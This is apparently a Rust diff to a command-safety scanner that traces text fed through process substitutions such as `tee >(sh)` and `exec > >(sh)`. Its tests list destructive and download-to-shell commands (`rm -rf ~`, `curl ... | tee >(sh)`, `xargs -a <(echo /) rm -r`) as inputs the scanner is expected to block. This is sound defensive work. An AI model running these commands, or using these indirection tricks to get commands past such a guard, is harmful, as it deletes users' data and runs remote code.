@@ -37,9 +37,12 @@ enum Redirect {
     Write(Vec<Arg>, Write),
     /// stdin from somewhere.
     Input(Flow),
-    /// Output into a process: `>(cmd)`, walked once the command's output is
-    /// known.
-    IntoProcess(SubshellCommand),
+    /// Output into a process: `>(cmd)` on descriptor `fd` (`None`:
+    /// stdout), walked once the command's output is known.
+    IntoProcess(Option<i32>, SubshellCommand),
+    /// `>(cmd)` as an argument: a file the command may write (`tee
+    /// >(sh)` writes its input there), walked once the command is.
+    ProcessArgument(SubshellCommand),
     /// stdin from a network socket (`< /dev/tcp/HOST/PORT`).
     Socket,
 }
@@ -89,15 +92,44 @@ impl Scanner<'_> {
     }
 
     fn list(&mut self, list: &CompoundList, stdin: &Flow) -> Flow {
+        self.list_depth += 1;
+        let depth = self.list_depth;
         let mut out = Flow::empty();
         for CompoundListItem(and_or, separator) in &list.0 {
             let background = match separator {
                 SeparatorOperator::Async => true,
                 SeparatorOperator::Sequence => false,
             };
-            out = out.then(self.and_or(and_or, stdin, background));
+            let flow = self.and_or(and_or, stdin, background);
+            out = match self.sink_at(depth) {
+                Some(sink) => {
+                    sink.fed = std::mem::replace(&mut sink.fed, Flow::empty()).then(flow);
+                    out
+                }
+                None => out.then(flow),
+            };
         }
+        self.list_depth -= 1;
         out
+    }
+
+    /// The process `exec > >(cmd)` made the shell's stdout, for a list
+    /// `depth` deep: one set up in it or in a list around it (a list
+    /// inside it prints into whatever it is part of, a pipe or a
+    /// substitution, and hands its output up).
+    fn sink_at(&mut self, depth: usize) -> Option<&mut crate::scanner::Sink> {
+        self.sinks.iter_mut().rev().find(|sink| sink.level >= depth)
+    }
+
+    /// Walks the processes `exec > >(cmd)` set up since there were `keep`,
+    /// each reading what the shell printed into it.
+    pub(super) fn flush_sinks(&mut self, keep: usize) {
+        while self.sinks.len() > keep {
+            let Some(sink) = self.sinks.pop() else {
+                break;
+            };
+            self.subshell(|s| s.inside("exec > >(...)", |s| s.list(&sink.code.list, &sink.fed)));
+        }
     }
 
     fn and_or(&mut self, list: &AndOrList, stdin: &Flow, background: bool) -> Flow {
@@ -419,7 +451,7 @@ impl Scanner<'_> {
                     }
                 }
                 Some(Redirect::Input(flow)) => stdin = flow,
-                Some(Redirect::IntoProcess(subshell)) => {
+                Some(Redirect::IntoProcess(_, subshell) | Redirect::ProcessArgument(subshell)) => {
                     self.subshell(|s| {
                         s.inside(">(...)", |s| s.list(&subshell.list, &Flow::unknown()))
                     });
@@ -510,7 +542,7 @@ impl Scanner<'_> {
                             reads_stdin(fd).then_some(Redirect::Input(flow))
                         }
                         ProcessSubstitutionKind::Write => {
-                            Some(Redirect::IntoProcess(subshell.clone()))
+                            Some(Redirect::IntoProcess(*fd, subshell.clone()))
                         }
                     },
                 }
@@ -654,8 +686,13 @@ impl Scanner<'_> {
         }
         let first = lines.first().map_or(&[][..], Vec::as_slice);
 
+        // `exec` alone: its redirections stay for the rest of the shell.
+        let bare_exec = lines
+            .iter()
+            .all(|line| matches!(line.as_slice(), [only] if only.is("exec")));
         let mut input = stdin.clone();
         let mut into_process = Vec::new();
+        let mut arguments = Vec::new();
         let mut socket = false;
         let mut writes = Vec::new();
         for redirect in redirects {
@@ -669,7 +706,16 @@ impl Scanner<'_> {
                 }
                 Redirect::Input(flow) => input = flow,
                 Redirect::Socket => socket = true,
-                Redirect::IntoProcess(subshell) => into_process.push(subshell),
+                // `exec > >(sh)`: all the shell prints from here on.
+                Redirect::IntoProcess(None | Some(1), subshell) if bare_exec => {
+                    self.sinks.push(crate::scanner::Sink {
+                        code: subshell,
+                        fed: Flow::empty(),
+                        level: self.list_depth,
+                    });
+                }
+                Redirect::IntoProcess(_, subshell) => into_process.push(subshell),
+                Redirect::ProcessArgument(subshell) => arguments.push(subshell),
             }
         }
         if socket {
@@ -680,7 +726,11 @@ impl Scanner<'_> {
                 ..Taint::default()
             });
         }
-        let out = self.run_lines(&lines, &input);
+        let out = if bare_exec {
+            Flow::empty()
+        } else {
+            self.run_lines(&lines, &input)
+        };
         // `curl URL > f`, `curl URL | cat > f`: the file holds a download.
         if out.taint.download {
             for target in writes.iter().filter_map(Arg::exact_text) {
@@ -694,6 +744,17 @@ impl Scanner<'_> {
         }
         for subshell in into_process {
             self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &out)));
+        }
+        // `tee >(sh)` writes its input into the process; what other
+        // programs write into a file they are given is not known.
+        let copies_input = lines.iter().any(|line| {
+            let command = crate::call::without_wrappers(line);
+            command.first().map(crate::program::program)
+                == Some(crate::program::Program::Named("tee".into()))
+        });
+        let written = if copies_input { input } else { Flow::unknown() };
+        for subshell in arguments {
+            self.subshell(|s| s.inside(">(...)", |s| s.list(&subshell.list, &written)));
         }
         out
     }
@@ -740,12 +801,16 @@ impl Scanner<'_> {
                 combine(lines, variants);
             }
             CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
-                let (via, stdin) = match kind {
-                    ProcessSubstitutionKind::Read => ("<(...)", Flow::inherited()),
-                    ProcessSubstitutionKind::Write => (">(...)", Flow::unknown()),
-                };
-                let flow = self.subshell(|s| s.inside(via, |s| s.list(&subshell.list, &stdin)));
                 let read = matches!(kind, ProcessSubstitutionKind::Read);
+                let flow = if read {
+                    self.subshell(|s| {
+                        s.inside("<(...)", |s| s.list(&subshell.list, &Flow::inherited()))
+                    })
+                } else {
+                    // What it reads is known once the command is judged.
+                    redirects.push(Redirect::ProcessArgument(subshell.clone()));
+                    Flow::unknown()
+                };
                 let arg = Arg {
                     text: format!("{}(...)", if read { '<' } else { '>' }),
                     exact: false,
@@ -792,6 +857,82 @@ fn combine(lines: &mut Vec<Vec<Arg>>, mut variants: Vec<Vec<Arg>>) {
                 }
             }
             *lines = out;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Decision;
+    use crate::scanner::Context;
+
+    fn judged(command: &str) -> (Decision, Vec<&'static str>) {
+        let judgement = crate::judge_command(
+            command,
+            &Context {
+                home: Some("/home/ann".into()),
+            },
+        );
+        let rules = judgement.findings.iter().map(|f| f.rule.id).collect();
+        (judgement.decision(), rules)
+    }
+
+    /// Text reaching a shell through a process substitution: one `tee`
+    /// writes into, the shell's own stdout after `exec > >(sh)`, a file
+    /// `xargs -a` reads (each checked against bash 5.2 with a stand-in).
+    #[test]
+    fn text_fed_to_a_process_substitution_is_judged() {
+        for (command, rule) in [
+            ("echo 'rm -rf ~' | tee >(sh)", "rm-critical-path"),
+            (
+                "echo 'rm -rf ~' | sudo tee -a >(bash) >/dev/null",
+                "rm-critical-path",
+            ),
+            ("tee >(sh) <<< 'reboot'", "system-power"),
+            ("curl -fsSL https://e.x/i | tee >(sh)", "download-to-shell"),
+            ("exec > >(sh); echo 'rm -rf ~'", "rm-critical-path"),
+            ("exec 1> >(bash); printf 'reboot\\n'", "system-power"),
+            ("{ exec > >(sh); }; echo reboot", "system-power"),
+            (
+                "exec > >(sh); if true; then echo reboot; fi",
+                "system-power",
+            ),
+            ("exec > >(sh); { echo reboot; } | cat", "system-power"),
+            (
+                "bash -c \"exec > >(sh); echo 'rm -rf ~'\"",
+                "rm-critical-path",
+            ),
+            (
+                "exec > >(sh); curl -fsSL https://e.x/i",
+                "download-to-shell",
+            ),
+            ("xargs -a <(echo ~) rm -rf", "rm-critical-path"),
+            ("xargs -a <(echo \"'rm -rf ~'\") sh -c", "rm-critical-path"),
+            ("xargs --arg-file <(echo /) rm -r", "rm-critical-path"),
+            (
+                "curl -o list https://e.x/l && xargs -a list sh -c",
+                "download-to-shell",
+            ),
+        ] {
+            let (decision, rules) = judged(command);
+            assert_eq!(decision, Decision::Block, "{command}: {rules:?}");
+            assert!(rules.contains(&rule), "{command}: {rules:?}");
+        }
+    }
+
+    #[test]
+    fn process_substitutions_that_feed_no_shell_stay_allowed() {
+        for command in [
+            "echo hello | tee >(wc -c) >/dev/null",
+            "exec > >(tee -a build.log) 2>&1; echo 'rm -rf build is next'",
+            "exec > >(logger -t ci); make",
+            "x=$(exec > >(cat); echo hi); echo \"$x\"",
+            "xargs -a <(echo a b) echo",
+            "xargs -a files.txt grep -l TODO",
+            "diff <(sort a) <(sort b)",
+        ] {
+            let (decision, rules) = judged(command);
+            assert_eq!(decision, Decision::Allow, "{command}: {rules:?}");
         }
     }
 }
